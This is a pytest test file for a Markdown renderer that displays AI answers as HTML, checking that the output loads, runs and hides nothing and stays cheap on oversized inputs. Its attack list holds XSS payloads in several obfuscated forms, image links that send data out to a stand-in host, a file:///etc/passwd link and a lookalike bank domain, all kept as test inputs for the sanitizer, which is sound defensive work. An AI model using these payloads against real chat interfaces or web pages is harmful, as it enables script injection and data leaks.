"""Markdown as HTML: what models write loads nothing, runs nothing, hides nothing, and costs little."""

from __future__ import annotations

import random
import re
from html.parser import HTMLParser

import pytest

from conftest import examples, for_each
from lazily import skip_without

skip_without("server", "markdown_it", "nh3", "pygments")

from plait.view import markdown  # noqa: E402
from plait.view.markdown import LONGEST, StreamedMarkdown, render_markdown  # noqa: E402

TAGS = "a blockquote br code del div em h3 h4 h5 h6 hr li ol p pre s span strong table tbody td th thead tr ul"


class Tags(HTMLParser):
    """The tags of a piece of HTML with their attributes, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    @property
    def links(self) -> list[dict[str, str | None]]:
        return [attributes for tag, attributes in self.found if tag == "a"]


def check(html: str) -> Tags:
    """Nothing in the HTML loads or runs by itself."""
    tags = Tags(html)
    for tag, attributes in tags.found:
        assert tag in TAGS.split(), tag
        assert set(attributes) <= {"href", "title", "target", "rel", "class", "start"}, attributes
        assert not attributes.get("href") or re.match(r"(https?|mailto):", attributes["href"] or "", re.IGNORECASE)
        if tag == "a":
            assert attributes["rel"] == "noopener noreferrer nofollow" and attributes["target"] == "_blank"
    return tags


ATTACKS = [
    "![x](https://evil.example/p.png?secret=1)",
    "![x][1]\n\n[1]: https://evil.example/p.png",
    "[![x](https://evil.example/a.png)](https://evil.example/b)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "![x](//evil.example/p.png)",
    '![x" onerror="alert(1)](https://evil.example/a "t\' onload=alert(1)")',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x][a]\n\n[a]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://evil.example/\"onmouseover='alert(1)'>",
    "[x](https://evil.example/\"onmouseover=\"alert(1) 'onfocus=alert(1)')",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script href='https://evil.example'/></svg><math href='javascript:alert(1)'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><style>@import 'https://evil.example'</style>",
    "<div\n\n<b onclick=alert(1)>\n\n</div><a href='javascript:alert(1)'>x</a>",
    '```html"><script>alert(1)</script>\n<b>\n```',
    '``` js class="x" onclick=alert(1)\n1\n```',
    "```python\n</code></pre><script>alert(1)</script>\n```",
    "~~~\"'><img/src/onerror=alert(1)>\nx\n~~~",
    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> ![p](https://evil.example/p) |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "# <b onclick=alert(1)> ![p](https://evil.example/p)",
    "[x](file:///etc/passwd) [y](ftp://evil.example) [z](blob:https://evil.example/1)",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x&#x3e;",
    "\ud800 [x](https://evil.example/\ud800) \x00",
]


@for_each("text", ATTACKS)
def test_nothing_in_an_answer_loads_or_runs(text: str) -> None:
    tags = check(render_markdown(text))
    assert not [tag for tag, _ in tags.found if tag in ("img", "script", "style", "svg", "iframe")]


def test_a_picture_is_a_link_that_names_its_host() -> None:
    found = check(render_markdown("See ![the map](https://maps.example/a.png?q=1)."))
    assert found.text.strip() == "See picture: the map (maps.example)."
    assert [each["href"] for each in found.links] == ["https://maps.example/a.png?q=1"]
    assert check(render_markdown("![the map](data:image/png;base64,AAAA)")).text.strip() == "picture: the map"


def test_where_a_link_goes_is_seen() -> None:
    def text(markdown: str) -> str:
        return check(render_markdown(markdown)).text.strip()

    assert text("[the docs](https://docs.example/a)") == "the docs"
    assert text("[bank.example](https://evil.example)") == "bank.example (evil.example)"
    assert text("<https://b\u0430nk.example>").startswith("https://xn--")
    assert text("[our bank](https://b\u0430nk.example)").endswith("(xn--bnk-6cd.example)")
    assert text("[x](https://bank.example@evil.example)") == "x (evil.example)"
    assert text("[x](/api/runs)") == "x (/api/runs)"


def test_what_cannot_be_seen_is_shown() -> None:
    html = render_markdown("a\u202eb &#x202e; `c\u200bd` [e\u2066](https://x.example/\u202e)\n\n```\n\u202e\n```")
    assert html.count("U+202E") == 3 and "U+200B" in html and "U+2066" in html
    assert not re.search("[\u202e\u200b\u2066]", html)


def test_markdown_is_rendered() -> None:
    html = render_markdown("# Title\n\n**b** *i* ~~s~~ `c`\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n- x\n\n3. y\n\n> q\n")
    for each in ("<h3>Title</h3>", "<strong>b</strong>", "<em>i</em>", "<s>s</s>", "<code>c</code>"):
        assert each in html
    for each in ('<td class="right">2</td>', "<ul>", '<ol start="3">', "<blockquote>", '<div class="md-table">'):
        assert each in html
    code = render_markdown("```python\ndef f(): return 'x'\n```")
    assert '<span class="lang">python</span>' in code and '<span class="hl-k">def</span>' in code
    assert Tags(code).text == "pythondef f(): return 'x'\n\n"
    assert Tags(render_markdown("```nonsense\na < b\n```")).text == "nonsensea < b\n\n"
    assert render_markdown("") == render_markdown(" \n ") == ""


BOMBS = {
    "brackets": "[" * 1_000_000,
    "stars": "*a " * 300_000,
    "openings": "![a](" * 200_000,
    "entities": "&" * 200_000,
    "quotes": ">" * 10_000 + " the end",
    "lists": "\n".join("  " * i + "- a" for i in range(300)),
    "columns": "|a" * 50 + "\n" + "|-" * 50 + "\n" + "|\n" * 20_000,
    "many columns": "|a" * 10_000 + "\n" + "|-" * 10_000 + "\n",
    "definitions": "".join(f"[{i}]: http://a.example\n" for i in range(3_000)) + "[1] [2] " * 400,
    "code": "```json\n" + '{"a": [' * 20_000,
    "a line of code": "```python\n" + "'" * 90_000,
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_hostile_text_costs_little_and_is_whole(name: str) -> None:
    html = render_markdown(BOMBS[name])
    assert len(html) < 8 * len(BOMBS[name]) + 2 * markdown.LONGEST_HTML
    found = check(html)
    if name == "quotes":
        assert "the end" in found.text
    if len(BOMBS[name]) > LONGEST:
        assert found.text.rstrip().endswith(BOMBS[name][-20:].rstrip())


def test_a_defect_of_a_library_hides_no_text(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object) -> list[object]:
        raise RecursionError

    monkeypatch.setattr(markdown, "_parse", broken)
    assert Tags(render_markdown.__wrapped__("<b>what it says")).text.strip() == "<b>what it says"


PIECES = ["a", "*", "**", "- ", "\n", "\n\n", "> ", "|", "-|-", "```", "1. ", "    ", "# ", " ", "x\n---\n", "~~~\n"]
PIECES += ["[a](b)", "[a]: b\n", "`", "=\n", "<", "&#x2e;", "\t", "\\", "![", "+ ", "  \n", "***\n", "\r\n", "word "]


def grow(text: str, random: random.Random) -> None:
    """What a page shows of a text that grows equals the text so far as a whole, wherever it is cut."""
    stream, page, at = StreamedMarkdown(), list[str](), 0
    while at < len(text):
        at = min(len(text), at + random.randint(1, 30))
        first = stream.update(text[:at], is_whole=at == len(text))
        if first is not None:
            page[first:] = stream.blocks[first:]
            assert "".join(page) == render_markdown(text[:at]), text[:at]
    assert "".join(page) == render_markdown(text)


def test_a_streamed_answer_equals_the_whole_one() -> None:
    for seed in range(examples(4_000)):
        chosen = random.Random(seed)
        grow("".join(chosen.choice(PIECES) for _ in range(chosen.randint(1, 120))), chosen)


def test_a_long_stream_renders_each_block_once() -> None:
    paragraph = "Some **text** with `code`, and more.\n\n"
    text, stream, rendered = paragraph * 100, StreamedMarkdown(), 0
    for at in range(100, len(text), 100):
        if (first := stream.update(text[:at])) is not None:
            rendered += sum(map(len, stream.blocks[first:]))
    assert rendered < 8 * len(render_markdown(text))
    stream, count = StreamedMarkdown(), 0
    code = "```python\n" + "x = f(1)\n" * 400  # one block that never ends
    for at in range(0, len(code), 20):
        count += stream.update(code[:at]) is not None
    assert count < 120
    stream.update("Another text.\n", is_whole=True)  # a model began again
    assert stream.blocks == ["<p>Another text.</p>\n"]
